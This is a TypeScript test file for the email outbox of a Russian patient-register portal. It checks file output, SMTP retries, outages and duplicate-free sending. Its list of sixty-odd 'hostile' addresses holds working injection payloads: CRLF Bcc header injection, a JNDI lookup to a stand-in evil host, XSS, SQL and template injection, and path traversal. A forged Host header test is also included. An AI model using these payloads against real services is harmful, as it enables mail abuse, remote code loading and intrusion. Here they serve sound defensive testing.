import { readdir, readFile } from 'node:fs/promises';
import { createServer, type AddressInfo, type Socket } from 'node:net';
import path from 'node:path';
import { sql, type RawBuilder } from 'kysely';
import PostalMime from 'postal-mime';
import { SMTPServer } from 'smtp-server';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { isEmail } from '#domain/email.ts';
import { waitUntil } from '../../../tests/sample/wait-until.ts';
import { startTestPortal, type TestPortal } from '../../../tests/sample/application.ts';
import { dialect } from '../../../tests/sample/database.ts';
import { addPerson, doctorForm, openBrowser, withSession } from '../../../tests/sample/people.ts';
import type { Settings } from '../settings.ts';
import { composeLetter } from './letter.ts';
import { putLetter } from './outbox.ts';
import { startPostman } from './postman.ts';
import { createContext } from '../request/context.ts';

let portal: TestPortal;
let time = new Date('2026-11-21T10:00:00Z');
beforeAll(async () => {
  portal = await startTestPortal({ settings: { CAPTCHA: 'off' }, now: () => time });
});
afterAll(() => portal.close());

/** A mail server that accepts connections and stays silent. */
async function openSilence(): Promise<{ url: string; hangUp: () => void }> {
  const callers = new Set<Socket>();
  let isOver = false;
  const server = createServer((caller) => {
    if (isOver) caller.destroy();
    else callers.add(caller.on('error', () => {}));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const hangUp = () => {
    isOver = true;
    for (const caller of callers) caller.destroy();
  };
  onTestFinished(() => {
    hangUp();
    server.close();
  });
  return { url: `smtp://127.0.0.1:${(server.address() as AddressInfo).port}`, hangUp };
}

interface Received {
  from: string;
  to: string[];
  raw: string;
}

/** A mail server that stores mail; `refuse`: number of initial failures. */
async function openPostOffice({ refuse = 0 } = {}): Promise<{ url: string; received: Received[] }> {
  const received: Received[] = [];
  let refusals = refuse;
  const server = new SMTPServer({
    authOptional: true,
    disabledCommands: ['STARTTLS', 'AUTH'],
    onData(stream, session, done) {
      const parts: Buffer[] = [];
      stream.on('data', (part: Buffer) => parts.push(part));
      stream.on('end', () => {
        if (refusals > 0) {
          refusals -= 1;
          done(Object.assign(new Error('Later, please'), { responseCode: 421 }));
          return;
        }
        const { mailFrom, rcptTo } = session.envelope;
        received.push({
          from: mailFrom ? mailFrom.address : '',
          to: rcptTo.map(({ address }) => address),
          raw: Buffer.concat(parts).toString('utf8'),
        });
        done();
      });
    },
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => new Promise<void>((resolve) => server.close(() => resolve())));
  return { url: `smtp://127.0.0.1:${(server.server.address() as AddressInfo).port}`, received };
}

function postman(more: Partial<Settings> = {}) {
  const problems: string[] = [];
  const man = startPostman(
    createContext({ settings: { ...portal.settings, ...more }, database: portal.database, now: () => time }),
    { log: (_, message) => problems.push(message) },
  );
  onTestFinished(() => man.stop());
  return { ...man, problems };
}

const put = (to: string, words = 'Слово') =>
  portal.database.transaction((tx) =>
    putLetter(
      tx,
      { settings: portal.settings, now: () => time },
      { kind: 'trial', to: { id: null, email: to } },
      { subject: words, before: [words] },
    ),
  );
const left = () =>
  portal.database.kysely.selectFrom('outbox').selectAll().where('sent_at', 'is', null).execute();

test(`without SMTP_URL a letter is a file, in Russian, with and without markup (${dialect})`, async () => {
  await openBrowser(portal).post('/api/register/doctor', doctorForm({ email: 'file@example.ru' }));
  await postman().deliver();
  const folder = path.join(portal.settings.DATA_DIR, 'mail');
  const files = (await readdir(folder)).filter((file) => file.endsWith('-confirm.eml'));
  expect(files).toHaveLength(1);
  const letter = await PostalMime.parse(await readFile(path.join(folder, files[0] ?? '')));
  expect(letter).toMatchObject({
    subject: 'Подтвердите регистрацию',
    from: { name: 'Регистр орфанных заболеваний', address: 'noreply@localhost' },
    to: [{ address: 'file@example.ru' }],
  });
  const link = new RegExp(`${portal.settings.SITE_URL}/profile/confirm/\\?code=[\\w-]{43}`);
  expect(letter.text).toMatch(link);
  expect(letter.html).toMatch(link);
  expect(letter.html).toContain('<html lang="ru">');
  expect(letter.html).not.toMatch(/<img|<script|<link/);
  const [stored] = await portal.database.kysely
    .selectFrom('outbox')
    .selectAll()
    .where('recipient', '=', 'file@example.ru')
    .execute();
  expect(stored).toMatchObject({ text: '', html: '', sent_at: time.toISOString() });
});

test("a letter has the portal's name as of sending", async () => {
  const person = await addPerson(portal, 'editor', { email: 'namer@example.ru' });
  const hoursAgo = (Date.now() - time.getTime()) / 3600_000;
  const editor = await withSession(portal, person, { hoursAgo });
  await put('named@example.ru');
  const name = (title: string) =>
    editor.post('/api/editors/site', { title, subtitle: '', tagline: '', short: '' });
  expect((await name('Атлас «Редкие & близкие»')).status).toBe(200);
  await postman().deliver();
  await name('');
  const folder = path.join(portal.settings.DATA_DIR, 'mail');
  const letters = await Promise.all(
    (await readdir(folder))
      .filter((file) => file.endsWith('-trial.eml'))
      .map(async (file) => PostalMime.parse(await readFile(path.join(folder, file)))),
  );
  const letter = letters.find(({ to }) => to?.[0]?.address === 'named@example.ru');
  expect(letter?.from).toMatchObject({ name: 'Атлас «Редкие & близкие»' });
  expect(letter?.text).toContain(`Атлас «Редкие & близкие»\n${portal.settings.SITE_URL}/`);
  expect(letter?.html).toContain('>Атлас «Редкие &amp; близкие»</a>');
});

test('a letter names operator and contact where set', async () => {
  const folder = path.join(portal.settings.DATA_DIR, 'mail');
  const deliver = async (to: string, more: Partial<Settings>) => {
    await portal.database.transaction((tx) =>
      putLetter(
        tx,
        { settings: portal.settings, now: () => time },
        { kind: 'signed', to: { id: null, email: to }, unsubscribe: { userId: 1, sort: 'digest' } },
        { subject: to, before: ['Слово'] },
      ),
    );
    const man = postman(more);
    // A postman of an earlier test may still hold the queue.
    const delivered = await waitUntil(`the letter to ${to} is delivered`, async () => {
      await man.deliver();
      const files = (await readdir(folder)).filter((name) => name.endsWith('-signed.eml'));
      const letters = await Promise.all(
        files.map(async (name) => PostalMime.parse(await readFile(path.join(folder, name)))),
      );
      return letters.find((letter) => letter.to?.some(({ address }) => address === to));
    });
    // Every postman takes any letter: the next one is for another.
    await man.stop();
    return delivered;
  };
  const named = await deliver('named@example.ru', {
    OPERATOR_NAME: 'ООО <Пример>',
    OPERATOR_ADDRESS: 'Тверь, Тестовая улица, 1',
    OPERATOR_EMAIL: 'help@example.ru',
  });
  expect(named.replyTo).toMatchObject([{ address: 'help@example.ru' }]);
  expect(named.headers).toContainEqual(
    expect.objectContaining({ key: 'list-id', value: 'signed <signed.localhost>' }),
  );
  expect(named.text).toContain('ООО <Пример>\nТверь, Тестовая улица, 1\nВопросы: help@example.ru');
  expect(named.html).toContain('ООО &lt;Пример&gt;<br>Тверь, Тестовая улица, 1');
  const silent = await deliver('silent@example.ru', {});
  expect(silent.replyTo).toBeUndefined();
  expect(silent.text?.trim().split('\n').at(-1)).toBe(`${portal.settings.SITE_URL}/`);
});

test('C-6 a failing mail server is retried with growing delays, and each letter arrives once', async () => {
  const { url, received } = await openPostOffice({ refuse: 3 });
  const man = postman({ SMTP_URL: url });
  await put('again@example.ru');
  const waits: number[] = [];
  for (let attempt = 0; attempt < 4; attempt += 1) {
    await man.deliver();
    const [letter] = await left();
    if (!letter) break;
    waits.push((Date.parse(letter.due_at) - time.getTime()) / 1000);
    await man.deliver();
    time = new Date(letter.due_at);
  }
  expect(waits).toEqual([30, 60, 120]);
  expect(received.map(({ to }) => to)).toEqual([['again@example.ru']]);
  expect(man.problems).toHaveLength(3);
});

test('C-6 a mail server that is down causes no delay and no loss', async () => {
  const { url: silence, hangUp } = await openSilence();
  const silent = postman({ SMTP_URL: silence });
  const answer = await openBrowser(portal).post(
    '/api/register/doctor',
    doctorForm({ email: 'down@example.ru' }),
  );
  // Answered while the sender still waits for the mail server.
  expect(answer.status).toBe(200);
  expect((await left()).map(({ recipient, problem }) => [recipient, problem])).toEqual([
    ['down@example.ru', null],
  ]);
  hangUp();
  await silent.deliver();
  await silent.stop();
  expect((await left()).map(({ recipient, problem }) => [recipient, problem])).toEqual([
    ['down@example.ru', expect.stringMatching(/ESOCKET|ECONNREFUSED|ECONNECTION/)],
  ]);
  const { url, received } = await openPostOffice();
  time = new Date(time.getTime() + 3600_000);
  await postman({ SMTP_URL: url }).deliver();
  expect(received.map(({ to }) => to)).toEqual([['down@example.ru']]);
});

test('two senders never send the same letter', async () => {
  const { url, received } = await openPostOffice();
  const men = [postman({ SMTP_URL: url }), postman({ SMTP_URL: url })];
  await Promise.all(Array.from({ length: 20 }, (_, index) => put(`many${index}@example.ru`)));
  await Promise.all(men.map((man) => man.deliver()));
  await Promise.all(men.map((man) => man.deliver()));
  expect(received.map(({ to }) => to[0]).toSorted()).toEqual(
    Array.from({ length: 20 }, (_, index) => `many${index}@example.ru`).toSorted(),
  );
});

test('a letter whose sender died is sent by the next, with the same id', async () => {
  await put('orphan@example.ru');
  await portal.database.transaction((tx) =>
    tx
      .updateTable('outbox')
      .set({ due_at: new Date(time.getTime() + 120_000).toISOString() })
      .where('sent_at', 'is', null)
      .execute(),
  );
  const { url, received } = await openPostOffice();
  const man = postman({ SMTP_URL: url });
  expect(await man.deliver()).toBe(0);
  time = new Date(time.getTime() + 120_000);
  expect(await man.deliver()).toBe(1);
  const letter = await PostalMime.parse(received[0]?.raw ?? '');
  expect(letter.messageId).toMatch(/^<\d+\.[0-9a-f]{16}@localhost>$/);
});

test('C-6 a letter sent while the database was down is recorded later and not sent again', async () => {
  const { url, received } = await openPostOffice();
  const man = postman({ SMTP_URL: url });
  const db = portal.database;
  const run = (...lines: RawBuilder<unknown>[]) =>
    db.transaction(async (tx) => {
      for (const line of lines) await line.execute(tx);
    });
  await run(
    ...(dialect === 'sqlite'
      ? [sql`create trigger no_room before delete on outbox begin select raise(abort, 'no room'); end`]
      : [
          sql`create function no_room() returns trigger language plpgsql as $$ begin raise 'no room'; end $$`,
          sql`create trigger no_room before delete on outbox for each row execute function no_room()`,
        ]),
  );
  await put('noted@example.ru');
  await expect(man.deliver()).rejects.toThrow('no room');
  // Long after the lease has expired.
  time = new Date(time.getTime() + 3600_000);
  await expect(man.deliver()).rejects.toThrow('no room');
  await run(dialect === 'sqlite' ? sql`drop trigger no_room` : sql`drop function no_room cascade`);
  await man.deliver();
  expect(received.map(({ to }) => to)).toEqual([['noted@example.ru']]);
  expect(await left()).toEqual([]);
});

/** Addresses of header injection attacks; those acceptable to a server are harmless. */
const hostile = [
  'a@example.ru\r\nBcc: evil@example.com',
  'a@example.ru\nBcc: evil@example.com',
  'a@example.ru\rBcc: evil@example.com',
  'a@example.ru%0d%0aBcc:evil@example.com',
  'a@example.ru,evil@example.com',
  'a@example.ru;evil@example.com',
  'a@example.ru evil@example.com',
  'a@example.ru, Evil <evil@example.com>',
  'Evil <evil@example.com>',
  '<evil@example.com>',
  '"a" <evil@example.com>',
  '"a,b"@example.ru',
  '"a b"@example.ru',
  '"a\\"b"@example.ru',
  'a(comment)@example.ru',
  'a@example.ru(comment)',
  'group:a@example.ru,b@example.ru;',
  'undisclosed-recipients:;',
  'a\0@example.ru',
  'a@exa\0mple.ru',
  'a\t@example.ru',
  'a\u0085@example.ru',
  'a\u2028@example.ru',
  'a\u202e@example.ru',
  'a@example.ru\u202e',
  'a@\u202eexample.ru',
  'a\ufeff@example.ru',
  '=?utf-8?q?evil=40example.com=2C?=@example.ru',
  '=?utf-8?b?ZXZpbA==?=@example.ru',
  'a@=?utf-8?q?example?=.ru',
  'a@b@example.ru',
  '@example.ru',
  'a@',
  'a',
  '',
  ' ',
  'a@.ru',
  'a@example..ru',
  'a@-example.ru',
  'a@example-.ru',
  '.a@example.ru',
  'a.@example.ru',
  'a..b@example.ru',
  'a@[127.0.0.1]',
  'a@127.0.0.1:25',
  'a@example.ru/../../etc',
  '../../etc/passwd@example.ru',
  'a@example.ru?subject=x',
  'a@example.ru&x=y',
  'a\\@example.ru',
  'а@пример.рф',
  'a@пример.рф',
  'a@xn--e1afmkfd.xn--p1ai',
  "o'brien+tag@example.ru",
  `${'a'.repeat(65)}@example.ru`,
  `a@${'b'.repeat(64)}.ru`,
  `a@${'b.'.repeat(130)}ru`,
  `${'a'.repeat(10_000)}@example.ru`,
  '%s%n@example.ru',
  '{{7*7}}@example.ru',
  '${jndi:ldap://evil.example}@example.ru',
  '<script>alert(1)</script>@example.ru',
  "a'or'1'='1@example.ru",
  '🦓@example.ru',
];

test('D-8 sixty hostile addresses add no recipient and no header', async () => {
  expect(hostile.length).toBeGreaterThanOrEqual(60);
  const { url, received } = await openPostOffice();
  for (const email of hostile) {
    const answer = await openBrowser(portal).post('/api/register/doctor', doctorForm({ email }), 'json');
    const isTaken = isEmail(email.trim());
    expect([email, answer.status]).toEqual([email, isTaken ? 200 : 400]);
    if (!isTaken) {
      expect(answer.errors[0]?.customData?.field).toBe('email');
      // Past validation, the letter would still go to one place or nowhere. PostgreSQL stores no NUL.
      if (!email.includes('\0')) await put(email, 'Проверка');
    }
  }
  await postman({ SMTP_URL: url }).deliver();
  expect(received.length).toBeGreaterThan(4);
  for (const { to, raw } of received) {
    expect(to).toHaveLength(1);
    expect(to[0]).not.toBe('evil@example.com');
    const { headers } = await PostalMime.parse(raw);
    expect(headers.map(({ key }) => key).toSorted()).toEqual(
      [
        'auto-submitted',
        'content-type',
        'date',
        'from',
        'message-id',
        'mime-version',
        'subject',
        'to',
      ].toSorted(),
    );
  }
  await portal.database.transaction((tx) => tx.deleteFrom('outbox').where('sent_at', 'is', null).execute());
});

test('D-8 a name with markup or a header stays a name', () => {
  const letter = composeLetter('https://register.example.ru', {
    subject: 'Тема',
    before: ['<script>alert(1)</script> & "x"'],
    button: { title: 'Нажать', url: 'https://a.ru/?b=1&c="' },
  });
  expect(letter.html).not.toContain('<script>');
  expect(letter.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;x&quot;');
  expect(letter.html).toContain('href="https://a.ru/?b=1&amp;c=&quot;"');
});

test('D-8 a subject with markup stays a subject in the HTML', () => {
  const { html } = composeLetter(portal.settings.SITE_URL, {
    subject: '</title><script>alert(1)</script> & «кавычки»',
    before: ['Слово'],
  });
  expect(html).not.toContain('<script');
  expect(html).toContain(
    '<title>&lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; &amp; «кавычки»</title>',
  );
});

test('D-8 links in letters come from the settings, whatever the Host header', async () => {
  await portal.app.inject({
    method: 'POST',
    url: '/api/register/doctor',
    headers: {
      origin: portal.settings.SITE_URL,
      'x-forwarded-host': 'evil.example',
      'content-type': 'application/json',
    },
    payload: JSON.stringify(doctorForm({ email: 'host@example.ru' })),
  });
  const letters = await portal.database.kysely.selectFrom('outbox').selectAll().execute();
  expect(letters.some(({ recipient }) => recipient === 'host@example.ru')).toBe(true);
  expect(JSON.stringify(letters)).not.toContain('evil.example');
});
